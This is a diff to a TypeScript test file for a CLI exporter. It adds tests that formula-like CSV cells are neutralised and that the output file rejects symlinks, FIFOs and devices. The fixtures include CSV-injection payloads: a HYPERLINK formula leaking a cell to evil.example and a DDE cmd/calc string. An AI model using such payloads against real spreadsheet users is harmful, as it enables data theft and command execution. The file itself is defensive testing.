@@ -5,7 +5,9 @@
  * for byte, nulls as nulls. Then `--cursor`: after a sync that changed 3 transcripts and added 5
  * videos, the next run writes exactly those 8 records, and the one after none.
  */
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { chmodSync, lstatSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { DuckDBInstance } from '@duckdb/node-api';
@@ -14,6 +16,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { oldestNeededEventId } from '../../src/db/webhooks.ts';
 import { expectCleanError, expectExit } from '../helpers/cli.ts';
 import { createPipelineHarness, runCli, type CliResult, type PipelineHarness } from '../helpers/pipeline.ts';
+import { startCli, waitUntil } from '../helpers/proc.ts';
 import { admin } from '../helpers/sim-http.ts';
 
 let h: PipelineHarness;
@@ -103,6 +106,22 @@ async function truth(where?: { sourceId?: number }): Promise<Truth[]> {
 
 const withoutChunks = (rows: Truth[]) => rows.map(({ chunks: _c, ...rest }) => rest);
 
+/** A cell a spreadsheet would run as a formula (OWASP, CSV injection): what the CSV writer prefixes with `'`. */
+const FORMULA_LEAD = /^[=+\-@\t\r]/;
+const neutralised = <T extends Record<string, unknown>>(rows: T[]): T[] =>
+  rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, typeof v === 'string' && FORMULA_LEAD.test(v) ? `'${v}` : v])) as T);
+
+/** A CSV export read back: nulls as null, numbers as numbers, arrays parsed. */
+function readCsv(path: string): Record<string, unknown>[] {
+  const rows = parseCsv(readFileSync(path), {
+    columns: true,
+    // an unquoted empty field is a null; a quoted one a string (possibly empty)
+    cast: (value, ctx) => (ctx.header ? value : ctx.quoting ? value : value === '' ? null : Number(value)),
+  }) as Record<string, unknown>[];
+  const arrays = ['tags', 'transcript_languages'];
+  return rows.map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, arrays.includes(k) && v !== null ? JSON.parse(v as string) : v])));
+}
+
 const readJsonl = (path: string) =>
   readFileSync(path, 'utf8').split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>);
 
@@ -144,14 +163,46 @@ describe('export', () => {
     const all = withoutChunks(await truth());
     const out = join(dir, 'all.csv');
     await ok(['export', '--format', 'csv', '--out', out]);
-    const rows = parseCsv(readFileSync(out), {
-      columns: true,
-      // an unquoted empty field is a null; a quoted one a string (possibly empty)
-      cast: (value, ctx) => (ctx.header ? value : ctx.quoting ? value : value === '' ? null : Number(value)),
-    }) as Record<string, unknown>[];
-    const arrays = ['tags', 'transcript_languages'];
-    const back = rows.map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, arrays.includes(k) && v !== null ? JSON.parse(v as string) : v])));
-    expect(back).toEqual(all);
+    expect(readCsv(out)).toEqual(neutralised(all));
+  });
+
+  it("CSV: a cell a spreadsheet would run as a formula starts with ' (OWASP); --csv-raw-formulas writes it as stored", async () => {
+    const { sql } = h.database;
+    const [x, y] = chunked.ids;
+    const saved = await sql<{ id: string; title: string | null; description: string | null; channel_name: string | null }[]>`
+      select id, title, description, channel_name from videos where id = any(${[x!, y!]}::text[])`;
+    const [text] = await sql<{ text: string }[]>`select text from transcripts where video_id = ${x!} and lang = ${chunked.lang}`;
+    const cells = {
+      x: { title: '=HYPERLINK("http://evil.example/?"&A1,"open")', description: "@SUM(1+1)*cmd|' /C calc'!A0", channel_name: '+1+1', text: '-2+3' },
+      y: { title: '\t=1+1', description: '\r=2+2', channel_name: 'a=b, not at the start' },
+    };
+    await sql`update videos set title = ${cells.x.title}, description = ${cells.x.description}, channel_name = ${cells.x.channel_name} where id = ${x!}`;
+    await sql`update videos set title = ${cells.y.title}, description = ${cells.y.description}, channel_name = ${cells.y.channel_name} where id = ${y!}`;
+    await sql`update transcripts set text = ${cells.x.text} where video_id = ${x!} and lang = ${chunked.lang}`;
+    try {
+      const all = withoutChunks(await truth());
+      const out = join(dir, 'formulas.csv');
+      await ok(['export', '--format', 'csv', '--out', out]);
+      const back = readCsv(out);
+      expect(back).toEqual(neutralised(all));
+      const rowOf = (rows: Record<string, unknown>[], id: string) => rows.find((r) => r.video_id === id && r.lang === chunked.lang)!;
+      expect(rowOf(back, x!)).toMatchObject({ title: `'${cells.x.title}`, description: `'${cells.x.description}`, channel_name: `'${cells.x.channel_name}`, text: `'${cells.x.text}` });
+      expect(rowOf(back, y!)).toMatchObject({ title: `'${cells.y.title}`, description: `'${cells.y.description}`, channel_name: cells.y.channel_name });
+
+      await ok(['export', '--format', 'csv', '--out', out, '--csv-raw-formulas']);
+      const raw = readCsv(out);
+      expect(raw).toEqual(all);
+      expect(rowOf(raw, x!)).toMatchObject(cells.x);
+
+      expectCleanError(await cli(['export', '--format', 'jsonl', '--out', out, '--csv-raw-formulas']), 2, '--csv-raw-formulas', 'csv');
+      const help = await ok(['export', '--help']);
+      expect(help.stdout).toContain('--csv-raw-formulas');
+      expect(help.stdout).toMatch(/formula/i);
+      expect(help.stdout).toContain("'");
+    } finally {
+      for (const v of saved) await sql`update videos set title = ${v.title}, description = ${v.description}, channel_name = ${v.channel_name} where id = ${v.id}`;
+      await sql`update transcripts set text = ${text!.text} where video_id = ${x!} and lang = ${chunked.lang}`;
+    }
   });
 
   it('Parquet, with and without --chunks, read by DuckDB equals the tables', async () => {
@@ -251,5 +302,109 @@ describe('export', () => {
     expectCleanError(await cli(['export', '--format', 'jsonl', '--out', dir]), 2, '--out', 'directory');
     const [c9] = await h.database.sql`select 1 from export_cursors where name = 'c9'`;
     expect(c9).toBeUndefined();
+  });
+});
+
+describe('the output file (issue #27)', () => {
+  /** A directory of its own per test: what is in it afterwards is what the export left. */
+  const fresh = (name: string) => mkdtempSync(join(dir, `${name}-`));
+  const names = (d: string) => readdirSync(d).sort();
+
+  it('refuses a symbolic link as --out, exit 2 naming it, and writes nothing through it (nor a dangling one)', async () => {
+    const d = fresh('symlink');
+    const victim = join(d, 'precious.txt');
+    writeFileSync(victim, 'precious\n');
+    const link = join(d, 'export.jsonl');
+    symlinkSync(victim, link);
+    const r = await cli(['export', '--format', 'jsonl', '--out', link]);
+    expectCleanError(r, 2, `--out ${link}`, 'symbolic link', 'nothing was written');
+    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
+    expect(readlinkSync(link)).toBe(victim);
+    expect(names(d)).toEqual(['export.jsonl', 'precious.txt']);
+
+    const dangling = join(d, 'dangling.jsonl');
+    symlinkSync(join(d, 'not-yet.txt'), dangling);
+    expectCleanError(await cli(['export', '--format', 'csv', '--out', dangling]), 2, `--out ${dangling}`, 'symbolic link');
+    expect(names(d)).toEqual(['dangling.jsonl', 'export.jsonl', 'precious.txt']);
+  });
+
+  it('refuses a FIFO, a socket and a device as --out, exit 2 at once (never opening them), and leaves them be', async () => {
+    const d = fresh('special');
+    const fifo = join(d, 'pipe');
+    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
+    const socketPath = join(d, 'sock');
+    const server: Server = createServer();
+    await new Promise<void>((resolve) => server.listen(socketPath, resolve));
+    // a device node like /dev/null, where this machine allows making one (root)
+    const device = join(d, 'null');
+    const madeDevice = spawnSync('mknod', [device, 'c', '1', '3']).status === 0;
+    try {
+      const cases: [string, string][] = [[fifo, 'a FIFO'], [socketPath, 'a socket'], ...(madeDevice ? [[device, 'a character device'] as [string, string]] : [])];
+      for (const [path, what] of cases) {
+        // a process that opened the FIFO would wait for a reader: the timeout would kill it (exit null)
+        const r = await runCli(['export', '--format', 'jsonl', '--out', path], h.env, 30_000);
+        expectCleanError(r, 2, `--out ${path}`, what, 'not a regular file', 'nothing was written');
+      }
+      expect(lstatSync(fifo).isFIFO()).toBe(true);
+      expect(lstatSync(socketPath).isSocket()).toBe(true);
+      if (madeDevice) expect(lstatSync(device).isCharacterDevice()).toBe(true);
+      expect(names(d)).toEqual([...(madeDevice ? ['null'] : []), 'pipe', 'sock']);
+    } finally {
+      await new Promise((resolve) => server.close(resolve));
+    }
+  });
+
+  it("keeps an existing file's mode (0600 stays 0600); a new file gets the usual mode", async () => {
+    const d = fresh('mode');
+    for (const mode of [0o600, 0o640]) {
+      const out = join(d, `m${mode.toString(8)}.jsonl`);
+      writeFileSync(out, 'old\n');
+      chmodSync(out, mode);
+      await ok(['export', '--format', 'jsonl', '--out', out]);
+      expect(statSync(out).mode & 0o7777, out).toBe(mode);
+      expect(readJsonl(out).length).toBe((await truth()).length);
+    }
+    const created = join(d, 'new.jsonl');
+    await ok(['export', '--format', 'jsonl', '--out', created]);
+    // the child inherits this process's umask
+    const umask = process.umask();
+    expect(statSync(created).mode & 0o7777).toBe(0o666 & ~umask);
+  });
+
+  it('SIGTERM or SIGINT mid-export removes the temporary file (a random name, 0600) and leaves the old output in place', async () => {
+    const { sql } = h.database;
+    const d = fresh('signal');
+    const out = join(d, 'corpus.jsonl');
+    writeFileSync(out, 'the previous export\n');
+    const temps: string[] = [];
+    for (const signal of ['SIGTERM', 'SIGINT'] as const) {
+      // another session holds transcripts: the export opens its file, then waits on its query
+      const locker = await sql.reserve();
+      await locker`begin`;
+      await locker`lock table transcripts in access exclusive mode`;
+      const p = startCli(['export', '--format', 'jsonl', '--out', out], h.env);
+      try {
+        const temp = await waitUntil(() => {
+          if (!p.running()) throw new Error(`export ended before its file was open:\n${p.stderr()}`);
+          return names(d).find((n) => n !== 'corpus.jsonl');
+        }, 30_000, 'the temporary file');
+        temps.push(temp);
+        // beside the output, hidden, named by chance: not `.corpus.jsonl.<pid>.partial`
+        expect(temp).toMatch(/^\.corpus\.jsonl\.[0-9a-f]{16,}\.partial$/);
+        expect(temp).not.toContain(`.${p.pid}.`);
+        expect(statSync(join(d, temp)).mode & 0o777).toBe(0o600);
+        p.kill(signal);
+        const exit = await p.exited;
+        expect(exit.signal ?? exit.code, signal).toBe(signal);
+        expect(p.stderr()).toContain('interrupted');
+        expect(names(d)).toEqual(['corpus.jsonl']);
+        expect(readFileSync(out, 'utf8')).toBe('the previous export\n');
+      } finally {
+        p.kill('SIGKILL');
+        await locker`rollback`;
+        locker.release();
+      }
+    }
+    expect(temps[0]).not.toBe(temps[1]);
   });
 });
